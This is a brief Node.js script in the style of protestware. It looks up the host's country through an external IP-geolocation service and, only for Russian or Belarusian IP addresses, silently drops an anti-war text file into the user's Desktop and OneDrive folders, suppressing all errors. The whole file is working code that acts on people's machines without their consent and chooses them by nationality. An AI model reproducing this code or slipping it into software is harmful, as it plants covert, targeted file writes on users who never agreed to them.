const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const MESSAGE = 'WITH LOVE FROM AMERICA.\n\nWar is not the answer, no matter how bad it is.\n';

https.get('https://ipwho.example.invalid/', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => {
    let cc = '';
    try { cc = JSON.parse(body).country_code; } catch (e) { return; }
    if (!['RU', 'BY'].includes(cc)) return;
    const home = os.homedir();
    for (const dir of ['Desktop', 'OneDrive', path.join('OneDrive', 'Desktop')]) {
      const target = path.join(home, dir);
      if (!fs.existsSync(target)) continue;
      try { fs.writeFileSync(path.join(target, 'WITH-LOVE-FROM-AMERICA.txt'), MESSAGE); } catch (e) {}
    }
  });
}).on('error', () => {});
